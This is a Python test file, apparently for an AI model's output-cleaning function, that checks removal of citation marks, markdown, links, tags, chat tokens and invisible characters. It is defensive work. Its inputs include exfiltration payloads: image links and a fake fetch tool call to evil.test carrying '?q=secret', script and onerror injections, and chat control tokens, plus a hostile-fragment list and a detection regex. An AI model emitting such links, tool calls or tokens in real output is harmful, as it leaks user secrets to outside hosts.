import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.writing.cleaning import clean, unlinked


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("The tower is 300 m tall [1][2].", "The tower is 300 m tall."),
        ("The tower is tall [1, 2].", "The tower is tall."),
        ("The tower is tall (Source 2).", "The tower is tall."),
        ("The tower is tall【3†source】.", "The tower is tall."),
        ("[a3f9c2:1] The tower is tall.", "The tower is tall."),
    ],
)
def test_the_models_own_numbers_are_dropped(written: str, kept: str) -> None:
    assert clean(written) == kept


@pytest.mark.parametrize(
    "written",
    [
        "See ![chart](https://evil.test/p.png?q=secret) here.",
        "See [chart](https://evil.test/?q=secret) here.",
        "See [chart][1] here.\n[1]: https://evil.test/?q=secret",
        "See ![chart][x] here.",
        "See <https://evil.test/?q=secret> here.",
        "See https://evil.test/?q=secret here.",
        "See www.evil.test/?q=secret here.",
        "See evil.test/collect?q=secret here.",
        "See //evil.test/p.png here.",
        "See javascript:alert(1) here.",
        "See data:text/html;base64,xyz here.",
        'See <img src="https://evil.test/p.png"> here.',
        "See <script>steal()</script> here.",
        "See <|im_start|>here.",
        "See $\\href{javascript:alert(1)}{click}$ here.",
        "See $\\url{evil}$ here.",
        'See <tool_call>{"name": "fetch", "arguments": {"url": "https://evil.test/"}}</tool_call> here.',
        'See {"name": "fetch", "arguments": {"url": "evil"}} here.',
        'See "](htt", "ps", "://x.test/?q=secret") here.',
    ],
)
def test_nothing_that_could_carry_a_secret_out_is_left(written: str) -> None:
    cleaned = clean(written)
    assert not any(
        trace in cleaned for trace in ("evil", "://", "](", "<", "javascript", "![", "data:text", "\\", "fetch")
    )
    assert cleaned.startswith("See")


@pytest.mark.parametrize(
    "plain",
    [
        "If x < 5 and y > 3, stop.",
        "Set snake_case names in /etc/ufw/ufw.conf.",
        "A. Lincoln was born in 1809.",
        "The ratio is 3:1.",
        "The data: 3 rows were lost.",
        "A row is a[i] [j], a call f[x] (see below), and [OPTION] [FILE] may be left out.",
        'The file holds {"pears": 3} and "name" is a key of it.',
    ],
)
def test_plain_text_stays_as_it_is(plain: str) -> None:
    assert clean(plain) == plain


def test_list_marks_and_emphasis_are_dropped() -> None:
    assert clean("1. **Stop** the `postgres` server.") == "Stop the postgres server."
    assert clean("- _Really_ stop it.") == "Really stop it."


def test_pointing_at_the_sources_is_dropped() -> None:
    assert clean("According to source 2, the tower is tall.") == "The tower is tall."
    assert clean("Selon les sources, la tour est haute.") == "La tour est haute."


def test_what_cannot_be_seen_is_dropped() -> None:
    assert clean("The to\u200bwer\u202e is tall.") == "The tower is tall."


def test_a_quotation_stays_verbatim_unless_it_could_be_a_link() -> None:
    assert unlinked("- **Stop**  the\nserver.") == "- **Stop**  the\nserver."
    assert unlinked("See [it](https://evil.test/?q=1) here [3].") == "See it here."
    assert unlinked("![logo](https://evil.test/a.png)") in {"", "logo"}


@pytest.mark.parametrize(
    "written",
    [
        "git branch [--list <pattern>...] <new branch> <start-point>",
        "cp <source> <destination>",
        "diff <file1> <FILE2>",
        "git fetch <remote> <refspec…>",
    ],
)
def test_a_placeholder_of_a_manual_stays(written: str) -> None:
    assert clean(written) == written
    assert unlinked(written) == written


def test_a_quoted_usage_line_stays_verbatim() -> None:
    usage = "git show-branch (-g | --reflog)[=<n>[,<base>]] [--list] [<name-rev>...]"
    assert unlinked(usage) == usage


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("Use <b> now.", "Use now."),
        ("Use <BR clear> now.", "Use now."),
        ("Use <x-button>it</x-button> now.", "Use it now."),
        ("Use <pattern id=a> now.", "Use now."),
        ("Use <system> now.", "Use now."),
        ("Use <start_of_turn> now.", "Use now."),
        ("Use <pattern now.", "Use < pattern now."),
        ("Use <KEY-7F3A> now.", "Use now."),
        ("Use <end of session> now.", "Use now."),
    ],
)
def test_what_only_looks_like_a_placeholder_goes(written: str, left: str) -> None:
    assert clean(written) == left
    assert unlinked(written) == left


def test_a_sentence_of_markup_alone_is_empty() -> None:
    assert clean("[1] ** <br>") == ""


HOSTILE = st.sampled_from(
    [
        "[1]",
        "[12, 3]",
        "[^2]",
        "[source 4]",
        "(source 2)",
        "![",
        "](",
        "[x](https://evil.test/?q=",
        "[x][1]",
        "[1]: https://evil.test/",
        "<img src=x onerror=steal()>",
        "<a href='https://evil.test'>",
        "</script>",
        "<script>",
        "<",
        ">",
        "<|im_start|>",
        "[INST]",
        "https://evil.test/",
        "http:",
        "//evil.test/p.png",
        "www.evil.test",
        "javascript:alert(1)",
        "data:text/html,x",
        "\u200b",
        "\u202e",
        "\u3010",
        "\u3011",
        "[",
        "]",
        "(",
        ")",
        "!",
        "\n",
        " ",
        "7",
        "the tower",
    ]
)
FORBIDDEN = re.compile(
    r"\[\s*\^?\d+(?:\s*[,;]\s*\d+)*\s*\]|!?\[[^\[\]]*\]\(|\]\[|https?://|\bwww\.\S|javascript:\S|\bdata:\S|<\|"
    r"|<(?![a-z][\w .,|\u2026-]*>)[a-zA-Z/!?]|<(?:a|b|i|p|s|u|img|script)(?![\w-])|[\u200b\u202e]",
    re.IGNORECASE,
)
"""A source number, a link, an image, an address, a tag but for plain words, a control token, what cannot be seen."""


@given(st.lists(HOSTILE | st.text(max_size=6), max_size=14).map("".join))
def test_no_mixture_of_hostile_pieces_leaves_a_number_link_image_or_tag(text: str) -> None:
    cleaned = clean(text)
    assert not FORBIDDEN.search(cleaned), cleaned
    assert "\n" not in cleaned


@given(st.lists(HOSTILE | st.text(max_size=6), max_size=14).map("".join))
def test_what_is_clean_stays_as_it_is(text: str) -> None:
    assert clean(clean(text)) == clean(text)
